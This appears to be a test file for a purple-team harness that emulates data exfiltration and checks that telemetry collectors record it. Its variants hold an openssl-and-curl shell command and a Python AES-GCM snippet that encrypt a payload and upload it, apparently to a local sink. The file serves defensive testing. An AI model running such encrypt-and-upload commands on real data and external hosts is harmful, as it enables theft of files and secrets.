// executeRun end to end with real emulations (openssl + curl siblings, python in-process), the real
// sink, and a recording stand-in collector; skips, a collector that fails to start, interruption,
// and a dry-run plan that has no side effects.

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { executeRun, findByEnvironMarker, planRun, stateFilePath, variantDirName, workspacePath, type ProgressEvent } from '../../harness/index.js';
import type { Collector, CollectorContext, CollectorOutput, EmulationWindow } from '../../src/model/index.js';
import { makeVariant, testRunId } from './helpers.js';

const hasCryptography = (() => {
  try {
    execFileSync('python3', ['-c', 'import cryptography'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

function emptyOutput(id: string): CollectorOutput {
  return { events: [], rawFiles: [], info: { id, fidelity: { process_exec: true, process_args: true, network: true, network_attribution: true, library_loads: false }, blind_spots: [], lost_records: 0, details: {}, errors: [] } };
}

function recordingCollector(log: { ctx?: CollectorContext; wrapped: string[]; windows: EmulationWindow[]; stopped: number }, failStart = false): Collector {
  return {
    id: failStart ? 'broken' : 'recorder',
    description: 'records what the harness tells it',
    platforms: ['linux', 'macos'],
    probe: async () => ({ available: true, fidelity: emptyOutput('x').info.fidelity, blind_spots: [] }),
    async start(ctx) {
      if (failStart) throw new Error('cannot open the audit socket');
      log.ctx = ctx;
      return {
        wrapCommand: (argv, w) => {
          log.wrapped.push(`${w.variantId}#${w.stepIndex}`);
          return argv;
        },
        variantDone: async (w) => void log.windows.push(w),
        stop: async () => {
          log.stopped++;
          return emptyOutput('recorder');
        },
      };
    },
  };
}

// openssl and curl as siblings under one sh, journaling with their real pids (as the contract says).
const opensslCurl = [
  'sh',
  '-c',
  [
    'j() { printf \'{"time_ms": %s000, "action": "%s", "pid": %s, "ppid": %s, "details": %s}\\n\' "$(date +%s)" "$1" "$2" "$$" "$3" >> "$PURPLE_JOURNAL"; }',
    'openssl enc -aes-256-cbc -pbkdf2 -salt -pass "file:$PURPLE_PASSFILE" -in "$PURPLE_PAYLOAD" -out "$PURPLE_OUT" & P=$!; wait $P || exit 1',
    'j encrypt $P \'{"tool": "openssl", "cipher": "aes-256-cbc-pbkdf2"}\'',
    'curl -sS --fail -o /dev/null -H "Authorization: Bearer $PURPLE_SINK_TOKEN" --data-binary "@$PURPLE_OUT" "$PURPLE_SINK_URL" & C=$!; wait $C || exit 2',
    'j upload $C \'{"tool": "curl", "protocol": "http"}\'',
  ].join('\n'),
];

const pythonGcm = [
  '{python}',
  '-c',
  `import os, json, time, urllib.request
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
n = os.urandom(12)
body = n + AESGCM(bytes.fromhex(os.environ['PURPLE_KEY_HEX'])).encrypt(n, open(os.environ['PURPLE_PAYLOAD'], 'rb').read(), None)
def j(a, d):
    open(os.environ['PURPLE_JOURNAL'], 'a').write(json.dumps({'time_ms': time.time() * 1000, 'action': a, 'pid': os.getpid(), 'ppid': os.getppid(), 'details': d}) + '\\n')
j('encrypt', {'tool': 'python-cryptography', 'cipher': 'aes-256-gcm', 'bytes': len(body)})
req = urllib.request.Request(os.environ['PURPLE_SINK_URL'], data=body, method='POST', headers={'X-Purple-Token': os.environ['PURPLE_SINK_TOKEN']})
urllib.request.urlopen(req, timeout=30).read()
j('upload', {'tool': 'python-urllib', 'protocol': 'http', 'bytes': len(body)})`,
];

describe('executeRun', () => {
  test('runs, skips, times out, records receipts and journals, cleans up everything', { timeout: 120_000 }, async () => {
    const stateDir = mkdtempSync(join(tmpdir(), 'purple-life-state-'));
    const runId = testRunId('life');
    const log = { wrapped: [] as string[], windows: [] as EmulationWindow[], stopped: 0 } as { ctx?: CollectorContext; wrapped: string[]; windows: EmulationWindow[]; stopped: number };
    const events: ProgressEvent[] = [];
    try {
      const variants = [
        makeVariant('life/openssl-curl', [{ argv: opensslCurl }], { requires: ['sh', 'openssl', 'curl'], cipher: 'aes-256-cbc-pbkdf2' }),
        makeVariant('life/python-gcm', [{ argv: pythonGcm }], { requires: ['python3'], requires_python: ['cryptography'], cipher: 'aes-256-gcm' }),
        makeVariant('life/mac-only', [{ argv: ['osascript', '-e', '1'] }], { platforms: ['macos'] }),
        makeVariant('life/missing-bin', [{ argv: ['sh', '-c', 'true'] }], { requires: ['purple-no-such-binary'] }),
        makeVariant('life/missing-module', [{ argv: ['sh', '-c', 'true'] }], { requires_python: ['purple_no_such_module'] }),
        makeVariant('life/needs-tls', [{ argv: ['sh', '-c', 'test -n "$PURPLE_SINK_TLS"'] }], { requires_sink: ['tls'] }),
        makeVariant('life/slow', [{ argv: ['sh', '-c', 'setsid sleep 320 & sleep 321'] }], { timeout_s: 1 }),
      ];
      const r = await executeRun({
        runId,
        variants,
        collectors: [recordingCollector(log)],
        hostName: 'h',
        hostId: 'hid',
        isRoot: process.getuid?.() === 0,
        stateDir,
        killGraceMs: 300,
        platform: 'linux',
        onProgress: (e) => events.push(e),
      });
      const by = new Map(r.variants.map((v) => [v.variant.id, v]));
      const oc = by.get('life/openssl-curl');
      assert.equal(oc?.status, 'ran', JSON.stringify(oc?.steps));
      assert.equal(oc?.receipts.length, 1);
      assert.equal(oc?.receipts[0]?.ciphertext_verified, true, oc?.receipts[0]?.note);
      assert.deepEqual(oc?.journal.map((e) => e.action), ['encrypt', 'upload']);
      assert.notEqual(oc?.journal[0]?.pid, oc?.journal[1]?.pid, 'openssl and curl are different processes');
      assert.deepEqual(oc?.journalProblems, []);
      const py = by.get('life/python-gcm');
      if (hasCryptography) {
        assert.equal(py?.status, 'ran', JSON.stringify(py?.steps));
        assert.equal(py?.receipts[0]?.ciphertext_verified, true);
        assert.equal(py?.journal[0]?.pid, py?.journal[1]?.pid, 'same process');
      } else assert.equal(py?.reason, 'python module cryptography not installed');
      assert.deepEqual([by.get('life/mac-only')?.status, by.get('life/mac-only')?.reason], ['skipped', 'runs on macos only']);
      assert.deepEqual([by.get('life/missing-bin')?.status, by.get('life/missing-bin')?.reason], ['skipped', 'purple-no-such-binary not found on PATH']);
      assert.deepEqual([by.get('life/missing-module')?.status, by.get('life/missing-module')?.reason], ['skipped', 'python module purple_no_such_module not installed']);
      assert.equal(by.get('life/needs-tls')?.status, 'ran', 'the TLS listener came up because a variant needs it');
      assert.equal(by.get('life/needs-tls')?.steps[0]?.exitCode, 0);
      const slow = by.get('life/slow');
      assert.equal(slow?.status, 'ran');
      assert.equal(slow?.timedOut, true);
      assert.match(slow?.reason ?? '', /timed out/);

      // The collector saw every step it had to wrap and every variant that ran.
      assert.ok(log.ctx && existsSync(log.ctx.rawDir) === false, 'raw dir was inside the removed workspace');
      assert.equal(typeof log.ctx?.recordArtifact, 'function');
      const ran = r.variants.filter((v) => v.status === 'ran').map((v) => v.variant.id);
      assert.deepEqual(log.windows.map((w) => w.variantId), ran);
      assert.deepEqual(log.wrapped, ran.map((id) => `${id}#0`));
      assert.ok(log.windows.every((w) => w.rootPids.length === 1 && w.endMs >= w.startMs));
      assert.equal(log.stopped, 1);

      // Cleanup: every step ok, nothing left.
      assert.ok(r.cleanup.every((s) => s.ok), JSON.stringify(r.cleanup));
      assert.equal(existsSync(workspacePath(runId)), false);
      assert.deepEqual(readdirSync(stateDir), []);
      assert.deepEqual(await findByEnvironMarker('PURPLE_RUN_ID', runId), []);
      assert.equal(r.interrupted, false);

      // Progress events in order; no secret anywhere in the result but the redaction list.
      const types = events.map((e) => e.type);
      assert.equal(types[0], 'run-start');
      assert.equal(types[types.length - 1], 'run-end');
      assert.equal(types.filter((t) => t === 'variant-end').length, variants.length);
      const { secretsForRedaction, ...rest } = r;
      const text = JSON.stringify(rest);
      for (const s of secretsForRedaction) assert.ok(!text.includes(s), 'a secret leaked into the result');
      assert.equal(secretsForRedaction.length, 8, 'four secrets, each also hex-encoded');
    } finally {
      rmSync(stateDir, { recursive: true, force: true });
      rmSync(workspacePath(runId), { recursive: true, force: true });
    }
  });

  test('a collector that fails to start makes the variants error, with the reason', async () => {
    const stateDir = mkdtempSync(join(tmpdir(), 'purple-life-state-'));
    const runId = testRunId('broken');
    try {
      const r = await executeRun({
        runId,
        variants: [makeVariant('b/one', [{ argv: ['sh', '-c', 'touch ran'] }])],
        collectors: [recordingCollector({ wrapped: [], windows: [], stopped: 0 }, true)],
        hostName: 'h',
        hostId: 'h',
        isRoot: false,
        stateDir,
      });
      assert.equal(r.variants[0]?.status, 'error');
      assert.match(r.variants[0]?.reason ?? '', /collector broken failed to start: cannot open the audit socket/);
      assert.equal(r.collectorOutputs[0]?.info.id, 'broken');
      assert.match(r.collectorOutputs[0]?.info.errors[0] ?? '', /cannot open/);
      assert.ok(r.cleanup.every((s) => s.ok));
    } finally {
      rmSync(stateDir, { recursive: true, force: true });
    }
  });

  test('an abort stops the running tree, skips the rest, keeps the collected output, cleans up', { timeout: 60_000 }, async () => {
    const stateDir = mkdtempSync(join(tmpdir(), 'purple-life-state-'));
    const runId = testRunId('abort');
    const ac = new AbortController();
    const log = { wrapped: [] as string[], windows: [] as EmulationWindow[], stopped: 0 };
    try {
      const r = await executeRun({
        runId,
        variants: [
          makeVariant('a/blocks', [{ argv: ['sh', '-c', 'setsid sleep 330 & touch ready; sleep 331'] }], { timeout_s: 120 }),
          makeVariant('a/never', [{ argv: ['sh', '-c', 'touch never'] }]),
        ],
        collectors: [recordingCollector(log)],
        hostName: 'h',
        hostId: 'h',
        isRoot: false,
        stateDir,
        killGraceMs: 300,
        signal: ac.signal,
        onProgress: (e) => {
          if (e.type === 'variant-start' && e.variantId === 'a/blocks') {
            const ws = workspacePath(runId);
            const t = setInterval(() => {
              if (existsSync(join(ws, 'variants', variantDirName('a/blocks'), 'ready'))) {
                clearInterval(t);
                ac.abort();
              }
            }, 30);
          }
        },
      });
      assert.equal(r.interrupted, true);
      assert.equal(r.variants[0]?.interrupted, true);
      assert.match(r.variants[0]?.reason ?? '', /interrupted/);
      assert.equal(r.variants[1]?.status, 'skipped');
      assert.match(r.variants[1]?.reason ?? '', /interrupted/);
      assert.equal(log.stopped, 1, 'collectors stopped, their output kept');
      assert.equal(r.collectorOutputs.length, 1);
      assert.equal(log.windows.length, 1);
      assert.deepEqual(await findByEnvironMarker('PURPLE_RUN_ID', runId), []);
      assert.equal(existsSync(workspacePath(runId)), false);
      assert.deepEqual(readdirSync(stateDir), []);
    } finally {
      rmSync(stateDir, { recursive: true, force: true });
    }
  });
});

describe('planRun (dry run)', () => {
  test('lists every command and destination, redacted, and touches nothing', async () => {
    const runId = testRunId('plan');
    const tmpBefore = readdirSync(tmpdir()).filter((n) => n.includes(runId));
    try {
      const plan = await planRun({
        runId,
        variants: [
          makeVariant('p/one', [{ argv: ['curl', '-H', 'Authorization: Bearer {token}', '--data-binary', '@{out}', '{sink_url}'] }, { argv: ['sh', '{scenarios}/x.sh', '{key_hex}'], detached: true, delay_s: 2 }], { requires: ['sh'], requires_sink: ['tls'] }),
          makeVariant('p/mac', [{ argv: ['osascript'] }], { platforms: ['macos'] }),
        ],
        collectors: [],
        scenariosDir: '/opt/purple/scenarios',
        platform: 'linux',
      });
      assert.equal(plan.workspace, workspacePath(runId));
      assert.deepEqual(plan.variants.map((v) => [v.variantId, v.willRun, v.reason]), [
        ['p/one', true, undefined],
        ['p/mac', false, 'runs on macos only'],
      ]);
      assert.equal(plan.commands.length, 2);
      assert.deepEqual(plan.commands[0]?.argv, ['curl', '-H', 'Authorization: Bearer <redacted>', '--data-binary', `@${join(workspacePath(runId), 'variants', variantDirName('p/one'), 'payload.enc')}`, `http://127.0.0.1:<port>/upload/p/one?purple_marker=purple-${runId}/${variantDirName('p/one')}`]);
      assert.deepEqual(plan.commands[1]?.argv, ['sh', '/opt/purple/scenarios/x.sh', '<redacted>']);
      assert.equal(plan.commands[1]?.detached, true);
      assert.equal(plan.commands[1]?.delay_s, 2);
      assert.ok(plan.destinations.length >= 3);
      for (const d of plan.destinations) assert.match(d, /^(https?|wss?|tcp|tls):\/\/127\.0\.0\.1:/);
      // No side effects: no workspace, no state file, nothing new in the temp folder.
      assert.equal(existsSync(workspacePath(runId)), false);
      assert.equal(existsSync(stateFilePath(runId)), false);
      assert.deepEqual(readdirSync(tmpdir()).filter((n) => n.includes(runId)), tmpBefore);
    } finally {
      rmSync(workspacePath(runId), { recursive: true, force: true });
    }
  });
});
